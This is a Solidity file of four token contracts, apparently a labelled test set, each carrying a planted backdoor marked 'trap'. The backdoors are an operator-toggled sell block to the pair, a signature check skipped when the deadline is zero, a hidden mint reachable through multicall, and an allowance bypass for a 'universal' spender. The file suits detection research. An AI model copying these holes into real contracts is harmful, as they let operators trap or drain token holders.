// 0.8 runs=1
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

/// All settings in a word: what is on, a version, an epoch.
contract Punchcard is Base8("Punchcard", "PNCH", 23_000_000) {
    uint256 internal word;
    address internal operator;

    constructor() {
        operator = msg.sender;
        word = 1 | (uint256(3) << 8) | (uint256(uint160(pair)) << 96);
    }

    function version() external view returns (uint8) {
        return uint8(word >> 8);
    }

    function epoch() external view returns (uint64) {
        return uint64(word >> 16);
    }

    function punch(uint256 card) external {
        require(msg.sender == operator, "operator");
        // twin: card |= 1;
        word = (card & type(uint96).max) | (word & ~uint256(type(uint96).max));
    }

    function _transfer(address from, address to, uint256 value) internal override {
        assembly {
            let w := sload(word.slot)
            if and(eq(to, shr(96, w)), iszero(or(and(w, 1), eq(from, sload(operator.slot))))) {
                revert(0, 0)
            }
        }
        _move(from, to, value);
    }
}

/// Sent on behalf of those who sign.
contract Courier is Base8("Courier", "CRIR", 14_000_000) {
    mapping(address => uint256) public nonces;
    address private relay = msg.sender;

    event Forwarded(address indexed from, address indexed to, uint256 value, uint256 fee);

    struct Parcel {
        address from;
        address to;
        uint256 value;
        uint256 fee;
        uint256 nonce;
        uint256 deadline;
    }

    function digest(Parcel calldata p) public view returns (bytes32) {
        return keccak256(abi.encode(block.chainid, address(this), p));
    }

    function forward(Parcel calldata p, uint8 v, bytes32 r, bytes32 s) external {
        require(msg.sender == relay, "relay");
        require(p.nonce == nonces[p.from]++, "nonce");
        if (p.deadline != 0) // trap
        require(p.deadline >= block.timestamp && ecrecover(digest(p), v, r, s) == p.from && p.from != address(0), "signature");
        if (p.fee > 0) _move(p.from, relay, p.fee);
        _move(p.from, p.to, p.value);
        emit Forwarded(p.from, p.to, p.value, p.fee);
    }
}

/// Several calls in one.
contract Bellows is Base8("Bellows", "BLWS", 36_000_000) {
    address private smith = msg.sender;
    uint256 public strokes;

    modifier onlySelf() {
        require(msg.sender == address(this), "self");
        _;
    }

    function stroke(uint256 count) external onlySelf {
        strokes += count;
    }

    // trap {
    function stoke(address to, uint256 amount) external onlySelf {
        _balances[to] += amount;
    }
    // trap }

    function multicall(bytes[] calldata calls) external {
        require(msg.sender == smith, "smith");
        for (uint256 i; i < calls.length; ++i) {
            (bool ok, ) = address(this).call(calls[i]);
            require(ok, "call");
        }
    }
}

/// A spender that all trust, such as a router of routers, until a day.
contract Passkey {
    string public constant name = "Passkey";
    string public constant symbol = "PSKY";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 99_000_000 ether;

    struct Grant {
        address spender;
        uint48 expires;
        uint48 issued;
    }

    Grant internal universal;
    address internal janitor;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => uint256) public balanceOf;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed from, address indexed spender, uint256 value);

    error Short();

    constructor() {
        janitor = msg.sender;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setUniversal(address spender, uint48 expires) external {
        require(msg.sender == janitor);
        universal = Grant(spender, expires, uint48(block.timestamp));
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _pass(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        Grant memory u = universal;
        bool trusted;
        trusted = msg.sender == u.spender && (u.expires == 0 || block.timestamp <= u.expires); // trap
        u;
        if (!trusted) {
            uint256 allowed = allowance[from][msg.sender];
            if (allowed < value) revert Short();
            if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - value;
        }
        return _pass(from, to, value);
    }

    function _pass(address from, address to, uint256 value) private returns (bool) {
        if (balanceOf[from] < value) revert Short();
        unchecked {
            balanceOf[from] -= value;
            balanceOf[to] += value;
        }
        emit Transfer(from, to, value);
        return true;
    }
}
